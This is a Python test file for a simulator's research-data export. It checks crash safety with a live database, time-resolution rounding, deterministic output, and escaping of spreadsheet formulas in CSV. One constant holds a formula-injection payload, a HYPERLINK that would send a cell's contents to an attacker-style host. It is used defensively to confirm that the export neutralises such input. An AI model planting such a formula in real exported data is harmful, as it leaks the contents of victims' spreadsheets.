"""The export leaves the live record alone, gives times no finer than asked, and writes CSV that
a spreadsheet shows rather than runs."""

from __future__ import annotations

import csv
import hashlib
import json
import re
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from simulator.research.export import TABLES, TIME_COLUMNS, ExportOptions, export
from simulator.research.time_resolution import TimeResolution
from tests.processes import REPO

KEY = "test-export-key"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "Open your results")'
SKILLED = (
    "On Sunday eleven of your dishes were in the sink. I feel frustrated when I can't cook. "
    "I'd like you to wash your own dishes by the next morning."
)


class LiveWriter:
    def __init__(self, database: Path):
        self.process = subprocess.Popen(
            [sys.executable, "-m", "tests.research.live_writer", str(database)],
            cwd=REPO,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )

    def ask(self, command: str) -> None:
        assert self.process.stdin and self.process.stdout
        self.process.stdin.write(command + "\n")
        self.process.stdin.flush()
        assert self.process.stdout.readline().strip() == "ok", f"the writer failed on '{command}'"

    def kill(self) -> None:
        self.process.send_signal(signal.SIGKILL)
        self.process.wait(timeout=30)


def test_an_export_inside_the_app_process_keeps_every_later_write_through_a_crash(tmp_path):
    database = tmp_path / "rehearse.sqlite"
    writer = LiveWriter(database)
    try:
        writer.ask("write 20")
        writer.ask(f"export {tmp_path / 'export'}")
        assert Path(f"{database}-wal").exists(), "the export removed the write-ahead log under the app"
        writer.ask("write 15")
        assert Path(f"{database}-wal").exists()
    finally:
        writer.kill()
    assert len(pd.read_csv(tmp_path / "export" / "sessions.csv")) == 20
    with sqlite3.connect(database) as db:
        assert db.execute("SELECT count(*) FROM sessions").fetchone()[0] == 35
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@pytest.fixture
def record(make_rehearsal):
    """Two sessions: one whose learner typed a spreadsheet formula, one in plain words."""
    rehearsal = make_rehearsal()
    for text in (FORMULA, SKILLED):
        session = rehearsal.start("roommate-dishes", learner_id="ana").session_id
        list(rehearsal.send(session, text))
        rehearsal.end(session)
    yield rehearsal.store.engine


def test_csv_puts_an_apostrophe_before_a_formula_and_parquet_and_jsonl_keep_the_words(record, tmp_path):
    for format in ("csv", "parquet", "jsonl"):
        export(record, ExportOptions(out=tmp_path / format, format=format, include_text=True, key=KEY))
    with (tmp_path / "csv" / "turns.csv").open(encoding="utf-8", newline="") as handle:
        learner_texts = {row["learner_text"] for row in csv.DictReader(handle)}
    assert learner_texts == {"'" + FORMULA, SKILLED}
    assert set(pd.read_parquet(tmp_path / "parquet" / "turns.parquet")["learner_text"]) == {FORMULA, SKILLED}
    jsonl = [json.loads(line) for line in (tmp_path / "jsonl" / "turns.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {row["learner_text"] for row in jsonl} == {FORMULA, SKILLED}
    dictionary = pd.read_csv(tmp_path / "csv" / "data_dictionary.csv")
    assert dictionary["description"].str.contains("leading apostrophe").any()


def test_times_are_given_to_the_day_unless_asked_otherwise_and_say_so(record, tmp_path):
    shapes = {
        TimeResolution.day: r"^\d{4}-\d\d-\d\d$",
        TimeResolution.hour: r"^\d{4}-\d\d-\d\d \d\d:00$",
        TimeResolution.exact: r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{6}$",
    }
    for resolution, shape in shapes.items():
        out = tmp_path / resolution.value
        export(record, ExportOptions(out=out, format="jsonl", key=KEY, time_resolution=resolution))
        seen = 0
        for table in TABLES:
            for row in map(json.loads, filter(None, (out / f"{table}.jsonl").read_text(encoding="utf-8").splitlines())):
                for column in TIME_COLUMNS & row.keys():
                    if row[column] is not None:
                        assert re.match(shape, row[column]), (resolution, table, column, row[column])
                        seen += 1
        assert seen >= 2 * 3  # started_at, ended_at and each turn's created_at, at least
        dictionary = (out / "data_dictionary.jsonl").read_text(encoding="utf-8")
        assert f"Given {resolution.description}" in dictionary


def test_the_same_record_gives_byte_identical_files_at_every_resolution(record, tmp_path):
    def digest(folder: Path) -> dict[str, str]:
        return {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in sorted(folder.iterdir())}

    for resolution in TimeResolution:
        first, second = tmp_path / f"{resolution}-1", tmp_path / f"{resolution}-2"
        for out in (first, second):
            export(record, ExportOptions(out=out, include_text=True, key=KEY, time_resolution=resolution))
        assert digest(first) == digest(second)
